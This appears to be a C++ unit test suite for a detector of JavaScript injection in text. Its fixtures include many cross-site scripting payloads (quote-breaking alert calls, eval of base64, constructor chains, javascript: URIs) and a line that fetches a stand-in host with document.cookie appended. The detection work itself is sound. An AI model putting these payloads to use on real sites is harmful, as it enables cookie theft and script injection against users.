#include "detect/js.hpp"

#include <boost/test/unit_test.hpp>
#include <string>

#include "detect/js_lexer.hpp"

using namespace gird::detect;

namespace {

Signs signs_of(std::string_view text) {
  Signs signs;
  js_signs(text, signs);
  return signs;
}

bool shows(std::string_view sign, std::string_view text) { return signs_of(text).has(sign); }

std::string_view called(std::string_view text) { return js::callee_before(text, text.size()).name; }

struct Case {
  std::string_view sign;
  std::string_view text;
};

}  // namespace

BOOST_AUTO_TEST_SUITE(javascript)

BOOST_AUTO_TEST_CASE(what_is_called_is_found_through_blanks_comments_and_parentheses) {
  for (const std::string_view text : {"alert", "alert  ", "alert/* x */", "(alert)", "((alert))",
                                      "alert?.", "alert<x>", "window.alert", "alert\\"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(called(text) == "alert"); }
  }
  BOOST_TEST(called("") == "");
  BOOST_TEST(called(")") == "");
  BOOST_TEST(called("*/") == "");
  BOOST_TEST(js::callee_before("top . alert", 11).receiver == "top");
  BOOST_TEST(js::callee_before("document?.write", 15).receiver == "document");
}

BOOST_AUTO_TEST_CASE(spaces_and_comments_are_stepped_over_both_ways) {
  BOOST_TEST(js::skip_space("  /* a */ x", 0) == 10U);
  BOOST_TEST(js::skip_space("/* a", 0) == 0U);
  BOOST_TEST(js::skip_space_back("x /* a */ ", 10) == 1U);
  BOOST_TEST(js::skip_space_back("x */", 4) == 4U);
}

BOOST_AUTO_TEST_CASE(a_break_needs_a_quote_and_an_operator) {
  BOOST_TEST(js::breaks_before("'-", 2));
  BOOST_TEST(js::breaks_before("\"; ", 3));
  BOOST_TEST(js::breaks_before("'+(", 3));
  BOOST_TEST(!js::breaks_before("' ", 2));
  BOOST_TEST(!js::breaks_before("x-", 2));
  BOOST_TEST(!js::breaks_before("", 0));
}

BOOST_AUTO_TEST_CASE(each_sign_is_seen) {
  for (const Case& one : {
           Case{"js/break", "'-alert(1)-'"},
           Case{"js/break", "\";eval(x);//"},
           Case{"js/break", "'|confirm()|'"},
           Case{"js/break", "\",prompt(x),\""},
           Case{"js/dialog-probe", "</script>alert(1)"},
           Case{"js/dialog-probe", "${alert(1)}"},
           Case{"js/dialog-probe", "alert?.(document?.cookie)"},
           Case{"js/dialog", "alert()"},
           Case{"js/tagged", "alert`1`"},
           Case{"js/tagged", "[].sort.call`${alert}1337`"},
           Case{"js/tagged", "Reflect.sort.call``"},
           Case{"js/handed-over", "[1].some(confirm)"},
           Case{"js/applied", "prompt.call(null,1)"},
           Case{"js/alias", "a=alert,a(1)"},
           Case{"js/alias", "onerror=alert;throw 1"},
           Case{"js/program-decoded", "eval(atob('YWxlcnQoMSk='))"},
           Case{"js/program-decoded", "eval('al'+'ert(1)')"},
           Case{"js/timer-text", "setTimeout('x()',0)"},
           Case{"js/constructor", "constructor.constructor('alert(1)')()"},
           Case{"js/computed", "[]['constructor']['constructor']('x')()"},
           Case{"js/computed", "top[\"al\"+\"ert\"](1)"},
           Case{"js/computed", "top[8680439..toString(30)](1)"},
           Case{"js/computed", "self  /*a*/  [  /*b*/  \"alert\"](\"x\")"},
           Case{"js/document", "document.cookie"},
           Case{"js/document", "document /*a*/ .     cookie"},
           Case{"js/document", "document.write('x')"},
           Case{"js/character-codes", "String.fromCharCode(88)"},
           Case{"js/script-element", "document.createElement('script')"},
           Case{"js/send", "import('//e.example/x')"},
           Case{"js/send", "fetch('//e.example/?'+document.cookie)"},
           Case{"js/maker", "new ActiveXObject('x')"},
           Case{"js/location-name", "location=name"},
           Case{"js/six-characters", "[][(![]+[])[+[]]+(![]+[])[+!+[]]]"},
           Case{"js/coercion", "!![]"},
           Case{"js/address", "java\nscript:alert(1)"},
           Case{"js/address", "vbscript:msgbox(1)"},
           Case{"js/address-idle", "javascript:void(0)"},
           Case{"js/data-page", "data:text/html;base64,PHN2Zz4="},
       }) {
    BOOST_TEST_CONTEXT(one.sign << " " << one.text) { BOOST_TEST(shows(one.sign, one.text)); }
  }
}

BOOST_AUTO_TEST_CASE(sentences_and_honest_programs_have_no_sign) {
  for (const std::string_view text : {"JavaScript: the good parts",
                                      "the prompt (PS1) is printed",
                                      "rl.prompt()",
                                      "function alert(x) {}",
                                      "use `alert` and `confirm`",
                                      "see `Function.prototype.call` for more",
                                      "in this document. Domain names",
                                      "const f = function () { return x; };",
                                      "items.map(render).filter(Boolean)",
                                      "level=alert; facility=3",
                                      "action=confirm&id=1",
                                      "setTimeout(() => done(), 10)",
                                      "constructor(name) { this.name = name; }",
                                      "window[\"foo\"]",
                                      "![](picture.png)",
                                      "int[][] a",
                                      "auto f = [](){};",
                                      "fetch(url).then(r => r.json())",
                                      "import('./module.js')",
                                      "model.eval()",
                                      "int evaluate(int x)",
                                      "data: text",
                                      "Foo::confirm(x)",
                                      "x->prompt(y)",
                                      "a new function `update_ref`, for `x`"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(signs_of(text).all().size() == 0U); }
  }
}

BOOST_AUTO_TEST_CASE(libinjection_137_a_comparison_of_numbers_is_no_program) {
  BOOST_TEST(signs_of("12345=12345||12345").all().size() == 0U);
}

BOOST_AUTO_TEST_CASE(every_cut_is_read) {
  const std::string whole =
      "'-alert?.(1)-' top[\"al\"+\"ert\"]`${x}` document/*a*/.cookie java\tscript:eval(atob('x')) "
      "[][(![]+[])[+[]]] a=alert,a(1) data:text/html,x x.constructor('y')(z)";
  for (std::size_t size = 0; size <= whole.size(); ++size) {
    for (const Sign& sign : signs_of(std::string_view(whole).substr(0, size)).all()) {
      BOOST_TEST(sign.where.end <= size);
    }
    signs_of(std::string_view(whole).substr(size));
  }
}

BOOST_AUTO_TEST_CASE(repeated_starts_take_linear_time) {
  for (const std::string_view unit :
       {"(",       ")",   "`",  "[",           "]",      "[]", "+[",        ".",  ":",     "=",
        "alert(",  "*/(", "/*", "javascript:", "t .",    "a=", "document.", ")(", "sort`", "data:",
        "/*a*/ (", "[\"", "  ", "alert <x>",   "call`  "}) {
    std::string text;
    while (text.size() < 1U << 20U) text += unit;
    BOOST_TEST_CONTEXT(unit) { BOOST_TEST(signs_of(text).all().size() <= Signs::most); }
  }
}

BOOST_AUTO_TEST_SUITE_END()
